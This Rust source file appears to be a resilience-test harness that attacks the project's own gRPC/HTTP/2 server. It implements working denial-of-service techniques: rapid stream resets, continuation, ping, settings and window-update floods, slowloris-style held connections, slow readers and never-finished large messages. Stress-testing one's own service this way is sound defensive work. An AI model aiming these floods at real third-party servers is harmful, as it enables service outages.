//! The attacks: each is what its attacker does in one burst, over and over.

use std::net::SocketAddr;

use embargo_proto::v1 as pb;

use super::wire::{
    CONTINUATION, DATA, HEADERS, PING, PREFACE, PRIORITY, SETTINGS, WINDOW_UPDATE, Wire, frame,
    message, open, reset, setting,
};
use crate::policies::ask;

/// Frames of a burst. With the pause after each it makes some tens of thousands a second.
const BURST: usize = 64;

/// What an attacker has in hand.
pub(super) struct Attacker {
    address: SocketAddr,
    wire: Option<Wire>,
    /// Connections that are left open.
    held: Vec<Wire>,
    /// How often the server closed a connection.
    pub(super) closed: u64,
    /// What was sent.
    pub(super) frames: u64,
}

pub(super) type Attack = fn(&mut Attacker);

/// Each by its name.
pub(super) const ATTACKS: &[(&str, Attack)] = &[
    ("rapid reset of whole calls", reset_whole_calls),
    ("rapid reset of calls begun", reset_calls_begun),
    ("resets provoked from the server", provoked_resets),
    ("continuation flood", continuations),
    ("ping flood", |a| a.flood(|_| frame(PING, 0, 0, &[7; 8]))),
    ("settings flood", |a| {
        a.flood(|_| frame(SETTINGS, 0, 0, &[]))
    }),
    ("settings that move every window", |a| {
        a.flood(|at| setting(4, if at % 2 == 0 { 1_000_000 } else { 1 }));
    }),
    ("priority flood", |a| {
        a.flood(|_| frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 9]))
    }),
    ("window-update flood", |a| {
        a.flood(|_| frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()));
    }),
    ("empty data", empty_data),
    ("unknown frames", |a| a.flood(|_| frame(0xbe, 0, 0, &[]))),
    ("slow readers of large answers", slow_readers),
    ("connections that say nothing", |a| a.hold(&[])),
    ("half a preface", |a| a.hold(&PREFACE[..10])),
    ("half a frame", |a| {
        a.hold(&[PREFACE, &frame(SETTINGS, 0, 0, &[]), &[0, 64, 0, 0]].concat());
    }),
    ("ten thousand streams", many_streams),
    ("messages that are never whole", half_messages),
];

impl Attacker {
    pub(super) fn new(address: SocketAddr) -> Self {
        Self {
            address,
            wire: None,
            held: Vec::new(),
            closed: 0,
            frames: 0,
        }
    }

    /// Sends on the one connection, which is made anew when the server closes it.
    fn send(&mut self, settings: &[u8], make: impl FnOnce(&mut Wire) -> Vec<u8>) {
        if self.wire.is_none() {
            self.wire = Wire::greet(self.address, settings);
        }
        let Some(wire) = &mut self.wire else {
            return;
        };
        let bytes = make(wire);
        if wire.send(&bytes) && wire.drain() {
            self.frames += 1;
        } else {
            self.wire = None;
            self.closed += 1;
        }
    }

    fn flood(&mut self, make: impl Fn(usize) -> Vec<u8>) {
        for at in 0..BURST {
            self.send(&frame(SETTINGS, 0, 0, &[]), |_| make(at));
        }
    }

    /// Opens connections, sends so much on each, and leaves them.
    fn hold(&mut self, bytes: &[u8]) {
        // Those that the server has closed make room for others.
        let before = self.held.len();
        self.held.retain_mut(Wire::drain);
        self.closed += u64::try_from(before - self.held.len()).unwrap();
        for _ in 0..4 {
            if self.held.len() < 300
                && let Some(mut wire) = Wire::connect(self.address)
            {
                wire.send(bytes);
                self.frames += 1;
                self.held.push(wire);
            }
        }
    }
}

fn plain() -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[])
}

fn reset_whole_calls(attacker: &mut Attacker) {
    for _ in 0..BURST / 4 {
        attacker.send(&plain(), |wire| {
            let stream = wire.stream();
            let call = [
                open("DecideHost", stream),
                message(stream, &ask("attacker")),
                reset(stream),
            ];
            call.concat()
        });
    }
}

fn reset_calls_begun(attacker: &mut Attacker) {
    for _ in 0..BURST / 2 {
        attacker.send(&plain(), |wire| {
            let stream = wire.stream();
            [open("DecideHost", stream), reset(stream)].concat()
        });
    }
}

/// A window that is moved by nothing is an error, for which the server itself resets the stream.
fn provoked_resets(attacker: &mut Attacker) {
    for _ in 0..BURST / 2 {
        attacker.send(&plain(), |wire| {
            let stream = wire.stream();
            let nothing = frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes());
            [open("DecideHost", stream), nothing].concat()
        });
    }
}

fn continuations(attacker: &mut Attacker) {
    for at in 0..BURST {
        attacker.send(&plain(), |wire| match (at, wire.last()) {
            // A field that is never the last.
            (1.., Some(stream)) => frame(CONTINUATION, 0, stream, &[0, 1, b'a', 1, b'b']),
            _ => frame(HEADERS, 0, wire.stream(), &[]),
        });
    }
}

fn empty_data(attacker: &mut Attacker) {
    for at in 0..BURST {
        attacker.send(&plain(), |wire| match (at, wire.last()) {
            (1.., Some(stream)) => frame(DATA, 0, stream, &[]),
            _ => open("DecideHost", wire.stream()),
        });
    }
}

/// Asks for answers of megabytes and lets one byte of each come.
fn slow_readers(attacker: &mut Attacker) {
    if attacker.held.len() < 64
        && let Some(mut wire) = Wire::greet(attacker.address, &setting(4, 1))
    {
        for _ in 0..8 {
            let stream = wire.stream();
            let call = [
                open("BatchDecideHosts", stream),
                message(stream, &large_question()),
            ];
            wire.send(&call.concat());
            attacker.frames += 1;
        }
        attacker.held.push(wire);
    }
    let before = attacker.held.len();
    attacker.held.retain_mut(Wire::drain);
    attacker.closed += u64::try_from(before - attacker.held.len()).unwrap();
}

/// Small to ask, large to answer: every host brings two findings.
fn large_question() -> pb::BatchDecideHostsRequest {
    use pb::batch_decide_hosts_request::BatchItem;
    let items = (0..1_000).map(|at| BatchItem {
        correlation_id: at.to_string(),
        facts: ask("h").facts,
        action: 0,
    });
    pb::BatchDecideHostsRequest {
        items: items.collect(),
        ..Default::default()
    }
}

/// Forty connections with two hundred and fifty calls each, none of which ever sends its message.
fn many_streams(attacker: &mut Attacker) {
    if attacker.held.len() < 40
        && let Some(mut wire) = Wire::greet(attacker.address, &plain())
    {
        for _ in 0..250 {
            let stream = wire.stream();
            wire.send(&open("DecideHost", stream));
            attacker.frames += 1;
        }
        attacker.held.push(wire);
    }
    let before = attacker.held.len();
    attacker.held.retain_mut(Wire::drain);
    attacker.closed += u64::try_from(before - attacker.held.len()).unwrap();
}

/// Sends all but the end of a large message, on as many streams as there may be.
fn half_messages(attacker: &mut Attacker) {
    let Some(mut wire) = attacker
        .held
        .pop()
        .filter(|wire| wire.last() < Some(400))
        .or_else(|| Wire::greet(attacker.address, &plain()))
    else {
        return;
    };
    let stream = wire.stream();
    let mut frames = open("DecideHost", stream);
    // It says to have sixteen mebibytes.
    frames.extend(frame(DATA, 0, stream, &[0, 1, 0, 0, 0]));
    for _ in 0..15 {
        frames.extend(frame(DATA, 0, stream, &filling()));
    }
    if wire.send(&frames) && wire.drain() {
        attacker.frames += 17;
        attacker.held.push(wire);
    } else {
        attacker.closed += 1;
    }
}

/// A part of a message that is as good as any.
fn filling() -> [u8; 60_000] {
    // A field that the schema does not know, which every reader skips.
    [0x78; 60_000]
}
